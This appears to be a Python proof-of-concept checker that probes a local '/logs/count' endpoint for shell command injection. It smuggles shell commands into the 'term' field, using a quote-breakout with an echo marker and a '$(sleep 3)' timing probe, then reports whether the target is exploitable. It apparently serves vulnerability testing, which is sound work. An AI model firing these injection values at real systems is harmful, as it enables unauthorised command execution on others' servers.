import os
import sys
import time
import traceback

import httpx

BASE = os.environ.get("BASE_URL", "http://127.0.0.1:8000")
c = httpx.Client(base_url=BASE, timeout=60)


def _fail(t, v, tb):
    traceback.print_exception(t, v, tb)
    os._exit(2)


sys.excepthook = _fail


def done(hit):
    print("exploitable" if hit else "not exploitable")
    sys.exit(0 if hit else 1)


h = {"X-Operator-Key": os.environ["OPERATOR_KEY"]}
r = c.post("/logs/count", json={"file": "web.log", "term": 'x" /dev/null; echo own$((6*7))ed; echo "'}, headers=h)
r2 = c.post("/logs/count", json={"file": "web.log", "term": "$(sleep 3)z"}, headers=h)
t = time.time()
r2 = c.post("/logs/count", json={"file": "web.log", "term": "$(sleep 3)z"}, headers=h)
done("own42ed" in r.text or time.time() - t > 2.5)
